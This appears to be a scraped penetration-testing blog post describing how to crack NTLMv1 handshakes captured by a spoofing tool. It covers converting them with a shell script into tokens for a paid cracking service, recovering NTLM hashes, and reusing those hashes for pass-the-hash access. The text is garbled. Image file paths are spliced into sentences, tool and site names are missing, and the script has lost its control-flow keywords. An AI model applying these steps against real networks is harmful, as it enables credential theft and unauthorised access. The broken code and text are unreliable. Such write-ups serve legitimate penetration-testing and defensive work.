Cracking NTLMv1 Handshakes with

Read on if you’d like to learn how to crack NTLMv1 handshakes with the serviceto obtain the NTLM hash. Publicized since 2013, this technique is not often leveraged by testers.

Running is one of the first tasks performed by most pentesters on internal penetration tests. This tool will spoof Multicast name resolution queries and give the pentester NTLMv1 and NTLMv2 handshakes. Usually the next step is to attempt to crack those handshakes, at a minimum running them against a wordlist such as crackstation.

A NTLMv1 handshake, however, offers another usually ignored cracking option that is guaranteed to give thetester the NTLM hash. The NTLM hash can be used as a password equivalent in a windows environment, unlike the NTLMv1 handshake.

Required Reading

MS-CHAPv2 handshakes can be broken into two rounds of 56 bit DES (and a third round using only 2bytes of the keyspace), which Moxie Demonstrated could be cracked by modern FPGAS (

NTLMv1 handshakes are essentially MS-CHAPv2 handshakes, making them susceptible to the same weakness (

How do we exploit this?

Use the site to extract the NTLM hash from any MSCHAP or NTLMv1 handshake for $20. You need to convert it to a token, rather than display in Responder directly because the site doesn’t take the challenge/response.

Use the script below to convert the Responder output to a token that will be accepted by



if [ $# -lt 1 ]


    echo “Usage: <hash_file> <hash_file2> …”

    exit 1



for i in $@; do

for hash in $( cat $i )


    user=$(echo $hash | cut -f1 -d:)

    domain=$(echo $hash | cut -f3 -d:)

    lmresp=$(echo $hash | cut -f4 -d:)ntresp=$(echo $hash | cut -f5 -d:)

    srvchallenge=$(echo $hash | cut -f6 -d:)


    # Secret sauce:

    if [ ${lmresp:16:32} ==  “00000000000000000000000000000000” ]srvchallenge=$( echo $combinedchallenge | xxd -r -p| md5sum -b | cut -c1-16)




     echo “user:$user”

     echo “domain:$domain”

     echo “lmresponse:$lmresp”

     echo “ntresp:$ntresp”

     echo“challenge:$srvchallenge”


     chapcrack=$(locate | head -1)

     if [ -e “$chapcrack” ]


         $chapcrack radius -R $ntresp -C $srvchallenge


        echo “ radius -R $ntresp -C $srvchallenge”




Upload this token to, give them 20 dollars, and wait for your NTLM hash.

Another Hash?Yes, NTLM hashes are password equivalents in a Windows environment. To leverage your newly acquired NTLM hash, use a tool like wmi-pth.


Speak to a Cyber Security Expert Today

  • This field is forvalidation purposes and should be left unchanged.


All recommendations and case studies presented by Tevora are for information purposes only and not intended to be for the purposes of providinginformation security advice. Any use of thisinformation for othermeans is prohibited.